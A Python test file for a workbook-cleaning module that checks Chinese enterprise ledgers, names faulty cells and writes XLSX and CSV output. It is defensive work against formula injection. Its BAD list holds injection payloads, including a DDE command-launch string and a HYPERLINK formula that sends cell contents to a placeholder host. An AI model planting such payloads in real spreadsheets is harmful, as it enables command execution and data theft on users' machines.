"""Rows are cleaned and reported by cell; what goes back or out is text that no program calculates."""

import csv
import datetime
import io
import zipfile

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fugong.core.workbooks.checking import CheckedRow, check_rows
from fugong.core.workbooks.fields import labels_of
from fugong.core.workbooks.headers import Table, find_table
from fugong.core.workbooks.mapping import propose
from fugong.core.workbooks.reading import read
from fugong.core.workbooks.writing import faulty_rows_workbook, safe_csv_cell, write_csv, write_xlsx
from tests.core.workbooks import making

KNOWN = labels_of(making.FIELDS)
BAD = ["=cmd|' /C calc'!A0", "+1+1", "-1+cmd", "@SUM(1)", "\t=1+1", "\r=1", '=HYPERLINK("http://x/?"&A1)',
       " =1+1", "\u3000=1+1", "\uff1d1+1", "\ufeff=1", "\u200b=1", "\n=1", "|calc"]  # fmt: skip


def checked(raw: bytes) -> tuple[Table, list[CheckedRow]]:
    table = find_table(read(raw, "a.xlsx").sheets[0], known=KNOWN)
    return table, list(check_rows(table, propose(table, making.FIELDS), year=2020))


def messy() -> bytes:
    rows = making.ledger(6)
    rows[0][5] = "约30人"
    rows[1][5] = "30-50"
    rows[2][7] = "2月30日"
    rows[3][2] = rows[3][2][:17] + "O"
    rows[4][1] = ""
    return making.quick_xlsx([["某某镇企业台账"], making.HEADERS, *rows])


def test_problems_and_notes_name_their_cell() -> None:
    _table, rows = checked(messy())
    assert [row.is_sound for row in rows] == [True, False, False, False, False, True]
    assert str(rows[0].notes[0]) == "F3: ‘约30人’ was taken as about 30."
    assert rows[0].values["headcount"] == 30
    assert str(rows[1].problems[0]).startswith("F4: ‘30-50’ is a range.")
    assert "headcount" not in rows[1].values
    assert rows[2].problems[0].reference == "H5"
    assert rows[4].problems[0].sentence == "Enterprise name is missing."
    assert rows[5].values["resume_on"].year == 2020


def test_formulas_without_values_and_error_cells_are_problems_not_blanks() -> None:
    rows = [["企业名称", "职工人数", "来自疫区人数"], ["甲厂", "=1+1", 3], ["乙厂", 5, "#REF!"]]
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    book.active["C3"].data_type = "e"
    sink = io.BytesIO()
    book.save(sink)
    _table, found = checked(sink.getvalue())
    assert str(found[0].problems[0]).startswith("B2: The cell holds a formula without a stored value.")
    assert str(found[1].problems[0]) == "C3: The cell shows an error of its formula."


def test_faulty_rows_go_back_as_they_came_with_their_reasons() -> None:
    table, rows = checked(messy())
    faulty = [row for row in rows if not row.is_sound]
    raw = faulty_rows_workbook(table, faulty, reasons={4: "Row 4 is twice in the file."})
    page = openpyxl.load_workbook(io.BytesIO(raw)).active
    assert [cell.value for cell in page[1]] == [*making.HEADERS, "Row before", "Problem"]
    assert page.max_row == 5
    assert page["F2"].value == "30-50"
    assert "range" in page["F2"].comment.text
    assert page["F2"].fill.fgColor.rgb != page["E2"].fill.fgColor.rgb
    assert page["P2"].value == 4
    assert "F4: " in page["Q2"].value
    assert "Row 4 is twice" in page["Q2"].value
    assert page["B5"].comment is not None


def test_a_corrected_file_can_be_sent_again() -> None:
    table, rows = checked(messy())
    raw = faulty_rows_workbook(table, [row for row in rows if not row.is_sound])
    again, found = checked(raw)
    assert [column.name for column in again.columns][: len(making.HEADERS)] == making.HEADERS
    assert [len(row.problems) for row in found] == [1, 1, 1, 1]


def test_xlsx_types_text_as_text() -> None:
    """No formula element and no link in the file, whatever the texts say."""
    raw = write_xlsx(["=1+1", "b"], [[text, "http://x"] for text in BAD], note="=1+1")
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet
    assert b"<hyperlink" not in sheet
    page = openpyxl.load_workbook(io.BytesIO(raw)).active
    assert {cell.data_type for row in page.iter_rows() for cell in row if cell.value is not None} == {"s"}


def test_xlsx_keeps_kinds() -> None:
    moment = datetime.datetime(2020, 2, 10, 8, 30, tzinfo=datetime.UTC)
    row = ["甲", 3, 2.5, True, datetime.date(2020, 2, 10), moment, None, 10**17, "\x00a\ud800"]
    page = openpyxl.load_workbook(io.BytesIO(write_xlsx(list("abcdefghi"), [row], sheet="台账/一"))).active
    values = [cell.value for cell in page[2]]
    assert values[:4] == ["甲", 3, 2.5, True]
    assert values[4] == datetime.datetime(2020, 2, 10)
    assert values[5] == datetime.datetime(2020, 2, 10, 8, 30)
    assert values[6:] == [None, str(10**17), "a"]


def test_csv_is_guarded_and_readable_again() -> None:
    raw = write_csv(["名称", "数"], [[text, -5] for text in BAD])
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert [row[0] for row in rows[1:]] == ["'" + text for text in BAD]
    assert {row[1] for row in rows[1:]} == {"-5"}


@given(st.text(max_size=30))
@settings(max_examples=300, deadline=None)
def test_no_csv_cell_begins_like_a_formula(text: str) -> None:
    cell = safe_csv_cell(text)
    assert cell.strip(" \t\r\n\u3000\xa0\ufeff\u200b")[:1] not in set("=+-@＝＋－＠") - {""} or not cell
    assert cell in {text, "'" + text}


def test_what_was_written_is_read_again() -> None:
    rows = [["甲厂", "13900000001", "", 'a,b\n"c"'], ["乙厂", "007", "约30人", "x"]]
    expected = [[cell or None for cell in row] for row in rows]
    columns = ["名称", "电话", "人数", "备注"]
    assert read(write_xlsx(columns, rows), "a.xlsx").sheets[0].rows[1:] == expected
    assert read(write_csv(columns, rows), "a.csv").sheets[0].rows[1:] == expected


@pytest.mark.parametrize("share", [0.0, 0.05])
def test_a_ledger_of_5600_rows_is_read_found_and_cleaned_whole(share: float) -> None:
    """Clean, and with one broken credit code in twenty rows. How long it takes is for `bench` to say."""
    rows = making.ledger(5600)
    broken = rows[:: int(1 / share)] if share else []
    for row in broken:
        row[2] = row[2][:10] + row[2][11] + row[2][10] + row[2][12:]
    _table, found = checked(making.quick_xlsx([making.HEADERS, *rows]))
    assert len(found) == 5600
    assert sum(not row.is_sound for row in found) <= len(broken)
    assert all(row.is_sound for row in found) is not bool(share)
